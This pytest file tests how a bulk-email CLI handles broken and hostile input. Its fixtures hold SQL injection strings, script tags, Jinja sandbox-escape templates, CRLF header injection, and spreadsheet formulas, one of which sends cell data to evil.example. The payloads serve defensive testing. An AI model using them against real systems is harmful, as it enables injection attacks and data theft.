"""Acceptance "Bad input": the real `sendguard` CLI (a subprocess) fed hostile and broken input.

What must hold (CLI.md): a bad row is rejected on its own with the physical line where its record
starts; a file that is unusable as a whole exits 2 and enrolls nothing; every usage error is exactly
one line on stderr, exit 2, never a traceback; the good rows are enrolled exactly once; hostile text
is stored and shown as data; the SMTP password never leaves the process.

Runs on both backends (`db_url`) where the database takes part, on SQLite alone where it does not.
Independent CLI calls run concurrently (a thread pool) to keep the subprocess cost down.
"""

from __future__ import annotations

import csv
import email.parser
import email.policy
import io
import json
import os
import subprocess
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime
from pathlib import Path

import pytest
from sqlalchemy import MetaData, inspect, select, text

from sender.db import make_engine
from tests.conftest import run_cli
from tests.smtp_peer import SmtpPeer

CliResult = subprocess.CompletedProcess[str]
Cli = Callable[..., CliResult]

SQLITE_ONLY = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)

SCHEMA_TABLES = {
    "alembic_version",
    "campaign",
    "variant",
    "lead",
    "campaign_lead",
    "send_log",
    "sender_instance",
    "sender_slot",
    "campaign_event",
    "suppression",
    "imported_send_log",
}

# CLI.md, "JSON shapes".
IMPORT_KEYS = {"enrolled", "already_enrolled", "duplicates_in_file", "suppressed", "rejected"}
LEADS_LIST_KEYS = {"email", "status", "reason", "variant", "attempts", "message_id", "sent_at"}
STATUS_KEYS = {"campaigns", "senders"}
STATUS_CAMPAIGN_KEYS = {"name", "status", "counts"}
# README ("CLI"): extensions beyond CLI.md, so a pause by a circuit breaker is visible to scripts.
STATUS_CAMPAIGN_EXTENSIONS = {"paused_by", "pause_reason"}
STATUS_COUNT_KEYS = {"queued", "sending", "sent", "failed", "skipped", "unknown"}
STATUS_SENDER_KEYS = {"instance", "host", "pid", "alive", "heartbeat_at"}
# CLI.md documents `campaign list --json` without a shape; these are the keys the dashboard and
# operators rely on today (extend freely, but never drop one silently).
CAMPAIGN_LIST_KEYS = {
    "name",
    "status",
    "from",
    "enrolled",
    "variants",
    "daily_limit",
    "min_interval_seconds",
    "timezone",
    "pause_reason",
    "paused_by",
    "breakers",
}


# --- helpers -------------------------------------------------------------------------------------


def _ok(result: CliResult) -> CliResult:
    assert result.returncode == 0, (
        f"exit {result.returncode}\nstdout: {result.stdout}\nstderr: {result.stderr}"
    )
    assert "Traceback" not in result.stderr, result.stderr
    return result


def _json(result: CliResult) -> object:
    return json.loads(_ok(result).stdout)


def _usage_error(result: CliResult, *needles: str, what: str = "") -> str:
    """Exit 2, exactly one line on stderr, no traceback, and the line says what it must say."""
    label = f"[{what}] " if what else ""
    assert result.returncode == 2, (
        f"{label}exit {result.returncode}, expected 2\nstdout: {result.stdout}\nstderr: {result.stderr}"
    )
    assert "Traceback" not in result.stderr, f"{label}{result.stderr}"
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, f"{label}expected exactly one line on stderr, got {len(lines)}: {result.stderr!r}"
    for needle in needles:
        assert needle.lower() in lines[0].lower(), f"{label}{needle!r} not in {lines[0]!r}"
    return lines[0]


def _run_all(calls: list[tuple[list[str], dict[str, str]]]) -> list[CliResult]:
    """Independent CLI calls, concurrently (each is a separate process; order of results kept)."""
    with ThreadPoolExecutor(max_workers=min(8, len(calls))) as pool:
        return list(pool.map(lambda call: run_cli(call[0], call[1]), calls))


def _toml_str(value: str) -> str:
    # A JSON string is a valid TOML basic string for everything used here (quotes, \n, \uXXXX).
    return json.dumps(value, ensure_ascii=True)


def _campaign_toml(
    path: Path, name: str, *, subject: str = "Hello {{ first_name }}", body: str = "Hi {{ email }}"
) -> Path:
    path.write_text(
        f"name = {_toml_str(name)}\n"
        'from = "Ana Nowak <ana@example.com>"\n'
        "\n[[variants]]\n"
        'letter = "A"\n'
        f"subject = {_toml_str(subject)}\n"
        f"body = {_toml_str(body)}\n",
        encoding="utf-8",
    )
    return path


def _csv_bytes(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


def _dump_database(url: str) -> str:
    """Every row of every table as text (the secret-leak grep needs all columns, not a chosen few)."""
    engine = make_engine(url, readonly=True)
    try:
        metadata = MetaData()
        metadata.reflect(engine)
        parts: list[str] = []
        with engine.connect() as conn:
            for table in metadata.sorted_tables:
                for row in conn.execute(select(table)):
                    parts.append(f"{table.name}: " + " | ".join(str(value) for value in row))
        return "\n".join(parts)
    finally:
        engine.dispose()


def _table_names(url: str) -> set[str]:
    engine = make_engine(url, readonly=True)
    try:
        return set(inspect(engine).get_table_names())
    finally:
        engine.dispose()


def _aware(value: object) -> datetime:
    assert isinstance(value, str), value
    parsed = datetime.fromisoformat(value)
    assert parsed.utcoffset() is not None, f"{value!r} has no UTC offset (CLI.md: every JSON time has one)"
    return parsed


# --- the leads CSV: per-row rejections, line numbers, exactly-once enrollment ----------------------

# (physical lines, rejected?) — the header is line 1; a quoted field with a line break spans lines.
BAD_LEADS_LINES = [
    "Email,first_name,company",  # 1: header matched case-insensitively, after a BOM
    "good1@example.com,Ann,Acme",  # 2
    "not-an-email,Bob,Acme",  # 3: invalid
    '"  GOOD1@Example.COM ",Ann again,Acme',  # 4: duplicate of line 2 (case, spacing)
    'lf-name@example.com,"Multi\nline",Acme',  # 5-6: LF in a quoted multi-line field
    "short@example.com,Cat",  # 7: too few columns
    "long@example.com,Dan,Acme,extra",  # 8: too many columns
    '"crlf@example.com\r\nBcc: victim@example.com",Eve,Acme',  # 9-10: CR LF in the address
    'cr-name@example.com,"Fay\rX-Injected: yes",Acme',  # 11-12: lone CR in a name
    "nodot@localhost,Gus,Acme",  # 13: invalid (no dotted domain)
    "two@@example.com,Hal,Acme",  # 14: invalid
    "Ian <ian@example.com>,Ian,Acme",  # 15: invalid (display name)
    ",Jo,Acme",  # 16: no address
    'lf-company@example.com,Kim,"Line\nbreak"',  # 17-18: LF in another field
    "GOOD2@EXAMPLE.COM,Lee,Acme",  # 19
    " good2@example.com ,Lee again,Acme",  # 20: duplicate of line 19
    "",  # 21: blank line, skipped
    "good3@example.com,Max,Acme",  # 22
    "big@example.com,Ned," + "x" * 70_000,  # 23: field over 64 KiB
    "sp ace@example.com,Oz,Acme",  # 24: invalid (space)
]
EXPECTED_REJECTIONS = {  # line -> words the reason must contain (any of them)
    3: ("email",),
    5: ("CR", "LF"),
    7: ("column",),
    8: ("column",),
    9: ("CR", "LF"),
    11: ("CR", "LF"),
    13: ("email",),
    14: ("email",),
    15: ("email",),
    16: ("email",),
    17: ("CR", "LF"),
    23: ("64",),
    24: ("email",),
}
GOOD_EMAILS = ["good1@example.com", "good2@example.com", "good3@example.com"]


def test_leads_csv_rejects_rows_by_line_and_enrolls_good_rows_exactly_once(
    cli: Cli, sendguard_env: dict[str, str], tmp_path: Path
) -> None:
    leads = tmp_path / "leads.csv"
    # A BOM, CRLF line endings (an Excel export), and bare LF / CR inside quoted fields.
    leads.write_bytes(("\ufeff" + "\r\n".join(BAD_LEADS_LINES) + "\r\n").encode("utf-8"))
    _ok(cli(["campaign", "create", str(_campaign_toml(tmp_path / "c.toml", "bad-input"))], sendguard_env))

    first = _json(cli(["leads", "import", "bad-input", str(leads), "--json"], sendguard_env))
    second = _json(cli(["leads", "import", "bad-input", str(leads), "--json"], sendguard_env))
    listed = _json(cli(["leads", "list", "bad-input", "--json"], sendguard_env))

    assert isinstance(first, dict) and set(first) == IMPORT_KEYS
    assert {k: first[k] for k in IMPORT_KEYS - {"rejected"}} == {
        "enrolled": 3,
        "already_enrolled": 0,
        "duplicates_in_file": 2,
        "suppressed": 0,
    }
    assert all(set(r) == {"line", "reason"} for r in first["rejected"]), first["rejected"]
    by_line = {r["line"]: r["reason"] for r in first["rejected"]}
    assert len(by_line) == len(first["rejected"]), "one rejection per record"
    assert sorted(by_line) == sorted(EXPECTED_REJECTIONS), by_line
    for line, words in EXPECTED_REJECTIONS.items():
        assert any(w.lower() in by_line[line].lower() for w in words), (line, by_line[line])
        assert "\n" not in by_line[line] and "\r" not in by_line[line], "a reason is one line"

    # The same file again: nothing new, the per-row verdicts unchanged.
    assert isinstance(second, dict)
    assert second["enrolled"] == 0
    assert second["already_enrolled"] == 3
    assert second["duplicates_in_file"] == 2
    assert second["rejected"] == first["rejected"]

    assert isinstance(listed, list)
    assert all(set(row) == LEADS_LIST_KEYS for row in listed), listed
    emails = [row["email"] for row in listed]
    assert sorted(emails) == GOOD_EMAILS, "each good address exactly once, trimmed and lower-cased"
    assert all(row["status"] == "queued" and row["attempts"] == 0 for row in listed)
    assert all(row["variant"] == "A" and row["message_id"] is None for row in listed)
    assert "victim@example.com" not in json.dumps(listed)


@SQLITE_ONLY
def test_unusable_leads_file_exits_2_and_enrolls_nothing(
    cli: Cli, sendguard_env: dict[str, str], tmp_path: Path
) -> None:
    _ok(cli(["campaign", "create", str(_campaign_toml(tmp_path / "c.toml", "whole-file"))], sendguard_env))
    files = {
        # Good rows first: the bad byte comes late, and still nothing may be enrolled.
        "not_utf8.csv": (b"email,first_name\nok1@example.com,Ann\nok2@example.com,Z\xe9ro\n", ("UTF-8",)),
        "latin1_bom.csv": (b"\xef\xbb\xbfemail\nok3@example.com\n\xff\xfe\n", ("UTF-8",)),
        "empty.csv": (b"", ("empty",)),
        "blank.csv": (b"\r\n  \n\n", ("empty",)),
        "bom_only.csv": (b"\xef\xbb\xbf", ("empty",)),
        "no_email_column.csv": (b"mail,first_name\nok4@example.com,Ann\n", ("email",)),
        "no_header.csv": (b"ok5@example.com,Ann\nok6@example.com,Bob\n", ("email",)),
    }
    calls = []
    for name, (content, _) in files.items():
        (tmp_path / name).write_bytes(content)
        calls.append((["leads", "import", "whole-file", str(tmp_path / name), "--json"], sendguard_env))
    calls.append((["leads", "import", "whole-file", str(tmp_path / "missing.csv"), "--json"], sendguard_env))
    calls.append((["leads", "import", "whole-file", str(tmp_path), "--json"], sendguard_env))  # a directory

    results = _run_all(calls)
    for (name, (_, needles)), result in zip(files.items(), results, strict=False):
        assert result.stdout == "", f"{name}: no JSON for an unusable file: {result.stdout!r}"
        _usage_error(result, name, *needles, what=name)
    _usage_error(results[-2], "missing.csv", what="missing file")
    _usage_error(results[-1], what="directory")

    assert _json(cli(["leads", "list", "whole-file", "--json"], sendguard_env)) == []


# --- the campaign TOML ---------------------------------------------------------------------------

_GOOD_TAIL = '\n[[variants]]\nletter = "A"\nsubject = "Hi"\nbody = "Hello"\n'
BAD_CAMPAIGNS = {
    "syntax": ('name = "x\nfrom = "a@example.com"' + _GOOD_TAIL, ("TOML",)),
    "missing_from": ('name = "x"' + _GOOD_TAIL, ("from",)),
    "unknown_key": ('name = "x"\nfrom = "a@example.com"\ncolour = "red"' + _GOOD_TAIL, ("colour",)),
    "bad_timezone": ('name = "x"\nfrom = "a@example.com"\ntimezone = "Mars/Olympus"' + _GOOD_TAIL, ("Mars",)),
    "template_syntax": (
        'name = "x"\nfrom = "a@example.com"\n[[variants]]\nletter = "A"\nsubject = "{% if x %}"\nbody = "b"\n',
        ("syntax",),
    ),
    "sandbox_mro": (
        'name = "x"\nfrom = "a@example.com"\n[[variants]]\nletter = "A"\nsubject = "s"\n'
        "body = \"{{ ''.__class__.__mro__ }}\"\n",
        ("__",),
    ),
    "sandbox_globals": (
        'name = "x"\nfrom = "a@example.com"\n[[variants]]\nletter = "A"\nsubject = "s"\n'
        'body = "{{ cycler.__init__.__globals__.os }}"\n',
        ("__",),
    ),
    "sandbox_attr_filter": (
        'name = "x"\nfrom = "a@example.com"\n[[variants]]\nletter = "A"\n'
        'subject = "{{ x|attr(\'__class__\') }}"\nbody = "b"\n',
        ("__class__",),
    ),
    "crlf_in_from": ('name = "x"\nfrom = "a@example.com\\r\\nBcc: v@example.com"' + _GOOD_TAIL, ("from",)),
}


@SQLITE_ONLY
def test_bad_campaign_file_exits_2_with_one_line_and_creates_nothing(
    cli: Cli, sendguard_env: dict[str, str], tmp_path: Path
) -> None:
    calls = []
    for name, (content, _) in BAD_CAMPAIGNS.items():
        (tmp_path / f"{name}.toml").write_text(content, encoding="utf-8")
        calls.append((["campaign", "create", str(tmp_path / f"{name}.toml")], sendguard_env))
    calls.append((["campaign", "create", str(tmp_path / "missing.toml")], sendguard_env))
    results = _run_all(calls)
    for (name, (_, needles)), result in zip(BAD_CAMPAIGNS.items(), results, strict=False):
        _usage_error(result, *needles, what=name)
    _usage_error(results[-1], "missing.toml", what="missing file")

    assert _json(cli(["campaign", "list", "--json"], sendguard_env)) == []


# --- campaign commands ---------------------------------------------------------------------------


def test_start_refuses_a_lead_missing_a_template_field_and_unknown_or_wrong_state_campaigns(
    cli: Cli, sendguard_env: dict[str, str], tmp_path: Path
) -> None:
    toml = _campaign_toml(
        tmp_path / "c.toml", "needs-company", body="Hi {{ first_name }}, how is {{ company }}?"
    )
    (tmp_path / "with.csv").write_bytes(
        _csv_bytes([["email", "first_name", "company"], ["with@example.com", "A", "Acme"]])
    )
    (tmp_path / "without.csv").write_bytes(
        _csv_bytes([["email", "first_name"], ["without@example.com", "B"]])
    )
    _ok(cli(["campaign", "create", str(toml)], sendguard_env))
    _ok(cli(["leads", "import", "needs-company", str(tmp_path / "with.csv")], sendguard_env))
    _ok(cli(["leads", "import", "needs-company", str(tmp_path / "without.csv")], sendguard_env))

    refused = _usage_error(cli(["campaign", "start", "needs-company"], sendguard_env), what="start")
    assert "without@example.com" in refused and "company" in refused, refused

    env, csv_path = sendguard_env, str(tmp_path / "with.csv")
    results = _run_all(
        [
            (["campaign", "pause", "needs-company"], env),
            (["campaign", "resume", "needs-company"], env),
            (["campaign", "start", "no-such-campaign"], env),
            (["campaign", "pause", "no-such-campaign"], env),
            (["campaign", "resume", "no-such-campaign"], env),
            (["leads", "import", "no-such-campaign", csv_path, "--json"], env),
            (["leads", "list", "no-such-campaign", "--json"], env),
            (["campaign", "list", "--json"], env),
        ]
    )
    _usage_error(results[0], "draft", what="pause of a draft")
    _usage_error(results[1], "draft", what="resume of a draft")
    for result in results[2:7]:
        _usage_error(result, "no-such-campaign", what=" ".join(result.args[3:]))
    campaigns = _json(results[7])
    assert [(c["name"], c["status"], c["enrolled"]) for c in campaigns] == [("needs-company", "draft", 2)]


@SQLITE_ONLY
def test_usage_errors_before_any_database_work(
    cli: Cli, sendguard_env: dict[str, str], tmp_path: Path
) -> None:
    out = str(tmp_path / "out")
    no_smtp = {k: v for k, v in sendguard_env.items() if k != "SENDGUARD_SMTP_URL"}
    calls: list[tuple[str, list[str], dict[str, str], tuple[str, ...]]] = [
        ("run without SMTP", ["run", "--once"], no_smtp, ("SMTP", "--dry-run")),
        ("mysql url", ["status"], {**sendguard_env, "SENDGUARD_DATABASE_URL": "mysql://x"}, ("mysql",)),
        (
            "mysql url, run",
            ["run", "--once", "--dry-run", out],
            {**sendguard_env, "SENDGUARD_DATABASE_URL": "mysql://x"},
            ("mysql",),
        ),
        (
            "psycopg2 url",
            ["status"],
            {**sendguard_env, "SENDGUARD_DATABASE_URL": "postgresql+psycopg2://u@h/db"},
            ("psycopg",),
        ),
        ("not a url", ["status"], {**sendguard_env, "SENDGUARD_DATABASE_URL": "not a url"}, ()),
        ("mysql flag", ["--database-url", "mysql://x", "status"], sendguard_env, ("mysql",)),
        (
            "max senders",
            ["status"],
            {**sendguard_env, "SENDGUARD_MAX_SENDERS": "many"},
            ("SENDGUARD_MAX_SENDERS",),
        ),
        ("unknown command", ["frobnicate"], sendguard_env, ()),
        ("once and until-idle", ["run", "--once", "--until-idle", "--dry-run", out], sendguard_env, ()),
        ("bad leads status", ["leads", "list", "c", "--status", "bogus"], sendguard_env, ("bogus",)),
    ]
    results = _run_all([(args, env) for _, args, env, _ in calls])
    for (what, _, _, needles), result in zip(calls, results, strict=True):
        _usage_error(result, *needles, what=what)
    assert not (tmp_path / "out").exists(), "refused before doing anything"


@pytest.fixture(
    params=[
        pytest.param("sqlite", id="sqlite"),
        pytest.param("postgresql", id="postgresql", marks=pytest.mark.postgres),
    ]
)
def unmigrated_url(request: pytest.FixtureRequest) -> str:
    """An empty database that `sendguard db upgrade` never touched."""
    return request.getfixturevalue("sqlite_url" if request.param == "sqlite" else "pg_url")


def test_run_against_an_unmigrated_database_asks_for_db_upgrade(
    cli: Cli, unmigrated_url: str, tmp_path: Path
) -> None:
    env = {
        **os.environ,
        "SENDGUARD_DATABASE_URL": unmigrated_url,
        "SENDGUARD_LOCK_FILE": str(tmp_path / "sender.lock"),
    }
    line = _usage_error(
        cli(["run", "--once", "--dry-run", str(tmp_path / "out")], env), "sendguard db upgrade"
    )
    assert "schema" in line
    assert _table_names(unmigrated_url) == set(), "run must not create or migrate the schema itself"


# --- hostile data and JSON shapes ------------------------------------------------------------------

HOSTILE_CAMPAIGN = "x'; DROP TABLE lead; --"
HOSTILE_LEADS = [
    {
        "email": "o'brien@example.com",
        "first_name": "Robert'); DROP TABLE campaign_lead;--",
        "company": "=cmd|' /C calc'!A0",
        "note": "<script>alert(1)</script>",
    },
    {
        "email": "plain@example.com",
        "first_name": "<script>alert(1)</script>",
        "company": "Robert'); DROP TABLE campaign_lead;--",
        "note": '=HYPERLINK("http://evil.example/?"&A1, "x"); %s %n {{ 7*7 }} \\ "',
    },
]


def test_hostile_input_round_trips_as_data_and_json_shapes_match_the_contract(
    cli: Cli, sendguard_env: dict[str, str], db_url: str, tmp_path: Path
) -> None:
    toml = _campaign_toml(
        tmp_path / "c.toml",
        HOSTILE_CAMPAIGN,
        subject="Hello {{ first_name }}",
        body="Company: {{ company }}\nNote: {{ note }}\n",
    )
    columns = list(HOSTILE_LEADS[0])
    leads = tmp_path / "hostile.csv"
    leads.write_bytes(_csv_bytes([columns] + [[lead[c] for c in columns] for lead in HOSTILE_LEADS]))
    outbox = tmp_path / "outbox"

    _ok(cli(["campaign", "create", str(toml)], sendguard_env))
    imported = _json(cli(["leads", "import", HOSTILE_CAMPAIGN, str(leads), "--json"], sendguard_env))
    _ok(cli(["campaign", "start", HOSTILE_CAMPAIGN], sendguard_env))
    _ok(cli(["run", "--once", "--dry-run", str(outbox)], sendguard_env))
    status, campaigns, listed = (
        _json(r)
        for r in _run_all(
            [
                (["status", "--json"], sendguard_env),
                (["campaign", "list", "--json"], sendguard_env),
                (["leads", "list", HOSTILE_CAMPAIGN, "--json"], sendguard_env),
            ]
        )
    )

    # leads import --json
    assert imported == {
        "enrolled": 2,
        "already_enrolled": 0,
        "duplicates_in_file": 0,
        "suppressed": 0,
        "rejected": [],
    }

    # campaign list --json (CLI.md gives no shape: see CAMPAIGN_LIST_KEYS)
    assert isinstance(campaigns, list) and len(campaigns) == 1
    assert set(campaigns[0]) == CAMPAIGN_LIST_KEYS
    assert campaigns[0]["name"] == HOSTILE_CAMPAIGN
    assert campaigns[0]["status"] == "active" and campaigns[0]["enrolled"] == 2
    assert campaigns[0]["variants"] == ["A"]

    # status --json
    assert isinstance(status, dict) and set(status) == STATUS_KEYS
    assert [set(c) for c in status["campaigns"]] == [STATUS_CAMPAIGN_KEYS | STATUS_CAMPAIGN_EXTENSIONS]
    entry = status["campaigns"][0]
    assert entry["name"] == HOSTILE_CAMPAIGN and entry["status"] == "active"
    assert set(entry["counts"]) == STATUS_COUNT_KEYS
    assert entry["counts"] == {"queued": 0, "sending": 0, "sent": 2, "failed": 0, "skipped": 0, "unknown": 0}
    assert len(status["senders"]) == 1
    sender = status["senders"][0]
    # CLI.md's keys must be there; extra keys are an allowed extension of the contract.
    assert STATUS_SENDER_KEYS <= set(sender), sender
    assert isinstance(sender["instance"], str) and sender["instance"]
    assert isinstance(sender["pid"], int) and isinstance(sender["host"], str)
    assert sender["alive"] is False, "a `run --once` sender has stopped"
    _aware(sender["heartbeat_at"])

    # leads list --json
    assert isinstance(listed, list) and all(set(row) == LEADS_LIST_KEYS for row in listed)
    assert sorted(row["email"] for row in listed) == sorted(lead["email"] for lead in HOSTILE_LEADS)
    for row in listed:
        assert row["status"] == "sent" and row["reason"] is None and row["attempts"] == 1, row
        assert row["variant"] == "A" and row["message_id"]
        _aware(row["sent_at"])

    # Stored as data: every table still there, every value byte for byte.
    assert SCHEMA_TABLES <= _table_names(db_url)
    engine = make_engine(db_url, readonly=True)
    try:
        with engine.connect() as conn:
            assert conn.execute(text("SELECT name FROM campaign")).scalars().all() == [HOSTILE_CAMPAIGN]
            stored = {
                email: (first, json.loads(fields))
                for email, first, fields in conn.execute(text("SELECT email, first_name, fields FROM lead"))
            }
            assert conn.execute(text("SELECT count(*) FROM campaign_lead")).scalar_one() == 2
    finally:
        engine.dispose()
    for lead in HOSTILE_LEADS:
        first, fields = stored[lead["email"]]
        assert first == lead["first_name"]
        assert fields == {k: v for k, v in lead.items() if k != "email"}

    # And rendered as plain text (no HTML escaping, no second template pass over lead data).
    messages = {}
    for path in outbox.glob("*.eml"):
        message = email.parser.BytesParser(policy=email.policy.default).parsebytes(path.read_bytes())
        messages[str(message["To"])] = message
    assert sorted(messages) == sorted(lead["email"] for lead in HOSTILE_LEADS)
    for lead in HOSTILE_LEADS:
        message = messages[lead["email"]]
        assert str(message["Subject"]) == f"Hello {lead['first_name']}"
        body = message.get_content().replace("\r\n", "\n")
        assert body == f"Company: {lead['company']}\nNote: {lead['note']}\n"


# --- secrets -------------------------------------------------------------------------------------

SECRET = "s3cretPW"


@pytest.fixture
def active_campaign(cli: Cli, sendguard_env: dict[str, str], tmp_path: Path) -> Iterator[str]:
    _ok(cli(["campaign", "create", str(_campaign_toml(tmp_path / "c.toml", "secretive"))], sendguard_env))
    (tmp_path / "l.csv").write_bytes(_csv_bytes([["email", "first_name"], ["to@example.com", "Tom"]]))
    _ok(cli(["leads", "import", "secretive", str(tmp_path / "l.csv")], sendguard_env))
    _ok(cli(["campaign", "start", "secretive"], sendguard_env))
    yield "secretive"


def _make_due_again(url: str) -> None:
    """Skip the retry backoff of every queued enrollment (the state a minute later)."""
    engine = make_engine(url)
    try:
        with engine.begin() as conn:
            conn.execute(
                text("UPDATE campaign_lead SET next_attempt_at = created_at WHERE status = 'queued'")
            )
    finally:
        engine.dispose()


def test_smtp_password_is_never_printed_logged_or_stored(
    cli: Cli, sendguard_env: dict[str, str], db_url: str, active_campaign: str, smtp_peer: SmtpPeer
) -> None:
    env, debug = sendguard_env, ["--log-level", "DEBUG"]
    # Nothing listens on port 1: connection refused, the attempt is deferred.
    refused = cli(
        [*debug, "run", "--once"], {**env, "SENDGUARD_SMTP_URL": f"smtp://user:{SECRET}@127.0.0.1:1"}
    )
    _make_due_again(db_url)
    # A real server that offers no AUTH: the password is in play, the login cannot happen.
    no_auth = cli(
        [*debug, "run", "--once"],
        {**env, "SENDGUARD_SMTP_URL": f"smtp://user:{SECRET}@127.0.0.1:{smtp_peer.port}"},
    )
    # The flag spelling, unparseable: the error shows the URL, redacted.
    bad_url = cli(["run", "--once", "--smtp-url", f"smtp://user:{SECRET}@127.0.0.1:notaport"], env)
    listed = _json(cli(["leads", "list", active_campaign, "--json"], env))

    _ok(refused)
    _ok(no_auth)
    _usage_error(bad_url, "user:***@")
    for result in (refused, no_auth, bad_url):
        assert SECRET not in result.stdout and SECRET not in result.stderr, result.stderr
    # The refused connection used an attempt; the refused login gave its attempt back (the auth breaker
    # releases the claim and pauses the campaign); the dump below shows both runs' SMTP errors.
    assert [(row["status"], row["attempts"]) for row in listed] == [("queued", 1)], (
        "both runs must have attempted the send (else the test proves nothing)",
        listed,
    )
    assert smtp_peer.connections() >= 1 and smtp_peer.count() == 0

    dump = _dump_database(db_url)
    assert "127.0.0.1:1" in dump and "AUTH" in dump, "the dump holds both SMTP error texts"
    assert SECRET not in dump
